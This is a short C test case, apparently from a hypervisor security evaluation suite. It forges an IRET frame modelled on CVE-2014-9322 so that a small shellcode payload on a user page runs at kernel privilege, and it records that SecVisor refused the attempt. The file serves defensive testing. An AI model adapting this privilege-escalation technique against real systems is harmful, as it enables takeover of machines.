// Row 9. An interrupt frame with the kernel's code segment and a user address, taken by IRET.
// Source: forged IRET frames, e.g. CVE-2014-9322.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

ATTACK("iret-frame")
{
	// mov eax, 0x1337; jmp rcx
	u8 *page = user_page();
	u64 result;

	memcpy(page, "\xb8\x37\x13\0\0\xff\xe1", 7);
	make_executable((u64)page);
	about_to("return from an interrupt to a user page");
	unprotect();
	result = operate(VULNERABLE_IRET, (u64)page, 0x10, 0);
	if (result == MARK)
		succeeded("IRET to a user page ran it at CPL 0");
	failed("RAX was %#llx", (unsigned long long)result);
}
